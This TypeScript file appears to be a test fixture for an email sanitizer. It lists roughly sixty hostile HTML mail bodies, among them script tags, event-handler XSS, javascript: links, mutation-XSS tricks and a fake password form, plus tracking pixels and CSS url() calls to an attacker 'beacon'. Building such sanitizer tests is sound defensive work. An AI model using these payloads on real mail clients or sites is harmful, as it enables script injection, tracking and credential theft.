/** Ways in which a mail has tried, or could try, to run something, to fetch something or to leave its frame. */

/** One of them. `beacon` is a computer of the attacker's that counts who comes. */
export interface HostileMail {
  readonly name: string;
  readonly html: (beacon: string) => string;
}

/** What a program of the attacker's would do: leave a mark on the desk and knock at the beacon. */
const run = (beacon: string) =>
  `try{window.top.hostile=1}catch(e){};window.hostile=1;new Image().src='${beacon}/ran'`;

const each = (name: string, html: HostileMail['html']): HostileMail => ({ name, html });

/** Every one is a mail of its own; `<p>Parole del cliente</p>` is added to each and must survive. */
export const hostileMails: readonly HostileMail[] = [
  each('script', (b) => `<script>${run(b)}</script>`),
  each('script in capitals with a slash', (b) => `<SCRIPT/x>${run(b)}</SCRIPT >`),
  each('script from elsewhere', (b) => `<script src="${b}/s.js"></script>`),
  each('script split by a script', (b) => `<scr<script></script>ipt>${run(b)}</script>`),
  each('error handler', (b) => `<img src="x" onerror="${run(b)}">`),
  each('handler after a slash', (b) => `<img/src="x"/onerror="${run(b)}">`),
  each('handler behind a stray quote', (b) => `<img """><img src=x onerror="${run(b)}">">`),
  each('load handler of the body', (b) => `<body onload="${run(b)}">`),
  each(
    'handler of an animation',
    (b) => `<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart="${run(b)}">x</b>`,
  ),
  each('details that open', (b) => `<details open ontoggle="${run(b)}">x</details>`),
  each('field with autofocus', (b) => `<input autofocus onfocus="${run(b)}">`),
  each('player with a broken source', (b) => `<video><source src="x" onerror="${run(b)}"></video>`),
  each('player with a poster', (b) => `<video poster="${b}/poster.png" src="${b}/v.mp4" autoplay></video>`),
  each('sound', (b) => `<audio src="${b}/a.mp3" autoplay></audio>`),
  each('drawing with a handler', (b) => `<svg onload="${run(b)}"></svg>`),
  each('drawing with a script', (b) => `<svg><script>${run(b)}</script></svg>`),
  each('drawing with a picture', (b) => `<svg><image href="${b}/i.png" xlink:href="${b}/i2.png"/></svg>`),
  each(
    'drawing that animates a link',
    (b) =>
      `<svg><a><animate attributeName="href" values="javascript:${run(b)}"/><text y="20">x</text></a></svg>`,
  ),
  each(
    'drawing with foreign words',
    (b) => `<svg><foreignObject><img src="${b}/f.png" onerror="${run(b)}"></foreignObject></svg>`,
  ),
  each(
    'drawing as a picture',
    (b) =>
      `<img src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${b}/d.png"/><script>${run(b)}</script></svg>`).toString('base64')}">`,
  ),
  each('link that runs', (b) => `<a id="l" href="javascript:${encodeURIComponent(run(b))}">apri</a>`),
  each('link that runs, with a line end', (b) => `<a href="java&#10;script&colon;${run(b)}">apri</a>`),
  each('link that runs, with a control character', (b) => `<a href="&#1;javascript:${run(b)}">apri</a>`),
  each('link with a page inside', (b) => `<a href="data:text/html,<script>${run(b)}</script>">apri</a>`),
  each('link to the top', (b) => `<a href="${b}/top" target="_top">apri</a>`),
  each(
    'link that is fetched before',
    (b) =>
      `<link rel="prefetch" href="${b}/pre"><link rel="stylesheet" href="${b}/s.css"><link rel="dns-prefetch" href="${b}">`,
  ),
  each('link that pings', (b) => `<a href="https://www.example.org/" ping="${b}/ping">apri</a>`),
  each('frame', (b) => `<iframe src="${b}/frame"></iframe>`),
  each('frame with a page inside', (b) => `<iframe srcdoc="<script>${run(b)}</script>"></iframe>`),
  each('frame that runs', (b) => `<iframe src="javascript:${run(b)}"></iframe>`),
  each('object', (b) => `<object data="${b}/o.pdf"><embed src="${b}/e.swf"></object>`),
  each('page that moves on', (b) => `<meta http-equiv="refresh" content="0;url=${b}/refresh">`),
  each(
    'page that loosens its policy',
    (b) => `<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="${b}/p.png">`,
  ),
  each('base for all addresses', (b) => `<base href="${b}/"><img src="base.png"><a href="x">apri</a>`),
  each(
    'form',
    (b) =>
      `<form action="${b}/form" target="_top"><input name="password" type="password"><button autofocus>Accedi</button></form>`,
  ),
  each('field as a picture', (b) => `<form action="${b}/f"><input type="image" src="${b}/input.png"></form>`),
  each(
    'button that sends elsewhere',
    (b) => `<form id="f"></form><button form="f" formaction="javascript:${run(b)}">x</button>`,
  ),
  each('picture', (b) => `<img src="${b}/seen.png" width="200" height="80" alt="">`),
  each(
    'picture without a scheme',
    (b) => `<img src="${b.replace(/^https?:/, '')}/noscheme.png" width="200" height="80">`,
  ),
  each(
    'picture with other sizes',
    (b) =>
      `<img srcset="${b}/set.png 1x, ${b}/set2.png 2x" src="" lowsrc="${b}/low.png" dynsrc="${b}/dyn.avi">`,
  ),
  each('picture with sources', (b) => `<picture><source srcset="${b}/source.webp"><img alt=""></picture>`),
  each('pixel that counts readers', (b) => `<img src="${b}/pixel.gif" width="1" height="1">`),
  each(
    'background of a table',
    (b) => `<table background="${b}/table.png"><tr><td background="${b}/td.png">x</td></tr></table>`,
  ),
  each(
    'background in a style',
    (b) => `<div style="background:url(${b}/bg.png);background-image:url('${b}/bg2.png')">x</div>`,
  ),
  each(
    'background behind escapes',
    (b) => `<div style="background:u\\72l(${b}/esc.png);list-style:\\75rl(${b}/esc2.png)">x</div>`,
  ),
  each(
    'background behind a comment',
    (b) =>
      `<div style="background:ur/**/l(${b}/k.png);content:url(${b}/k2.png);cursor:url(${b}/c3.cur),auto">x</div>`,
  ),
  each(
    'background as a set',
    (b) =>
      `<div style="background-image:image-set('${b}/is.png' 1x);mask:url(${b}/m.svg);filter:url(${b}/f.svg#x)">x</div>`,
  ),
  each(
    'style sheet',
    (b) =>
      `<style>@import url(${b}/import.css);body{background:url(${b}/css.png)}@font-face{font-family:x;src:url(${b}/font.woff2)}p{font-family:x}</style>`,
  ),
  each(
    'style sheet that never ends',
    (b) => `<p>Parole del cliente</p><style>body{background:url(${b}/open.png)}`,
  ),
  each(
    'cover over everything',
    () =>
      `<div style="position:fixed;inset:0;z-index:9999;background:white;width:100vw;height:100vh">Sessione scaduta</div>`,
  ),
  each(
    'names that hide the page',
    () =>
      `<form name="querySelector"><input name="body"></form><img name="getElementById" id="cookie"><a id="document"></a>`,
  ),
  each(
    'words that change on the way (noscript)',
    (b) => `<noscript><p title="</noscript><img src=x onerror=${run(b)}>">`,
  ),
  each(
    'words that change on the way (math)',
    (b) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run(b)}&gt;">`,
  ),
  each(
    'words that change on the way (title)',
    (b) => `<svg></p><style><a id="</style><img src=1 onerror=${run(b)}>"></svg>`,
  ),
  each(
    'words that change on the way (template)',
    (b) =>
      `<template><img src="${b}/t.png" onerror="${run(b)}"></template><xmp><p title="</xmp><img src=x onerror=${run(b)}>">`,
  ),
  each(
    'words that change on the way (textarea)',
    (b) => `<textarea><img title="</textarea><img src=x onerror=${run(b)}>"></textarea>`,
  ),
  each(
    'comment that ends early',
    (b) =>
      `<!--><img src="${b}/c.png" onerror="${run(b)}">--><!--[if mso]><img src="${b}/mso.png"><![endif]-->`,
  ),
  each(
    'instruction and section',
    (b) => `<?xml version="1.0"?><![CDATA[<img src="${b}/cd.png" onerror="${run(b)}">]]>`,
  ),
  each(
    'Office drawing',
    (b) => `<v:rect><v:fill type="frame" src="${b}/vml.png"/></v:rect><v:imagedata src="${b}/vml2.png"/>`,
  ),
  each(
    'parent of prototypes',
    () => `<img src="cid:__proto__"><img src="cid:constructor"><p __proto__="x" constructor="y">x</p>`,
  ),
  each(
    'address with a password',
    (b) => `<img src="${b.replace('://', '://user:secret@')}/auth.png" width="50" height="50">`,
  ),
  each(
    'moving words',
    (b) => `<marquee onstart="${run(b)}">x</marquee><isindex action="javascript:${run(b)}" type="image">`,
  ),
  each(
    'unclosed everything',
    (b) => `<a href="${b}/x" onclick="${run(b)}" <b <img src=x onerror="${run(b)}" `,
  ),
];

export const words = 'Parole del cliente';
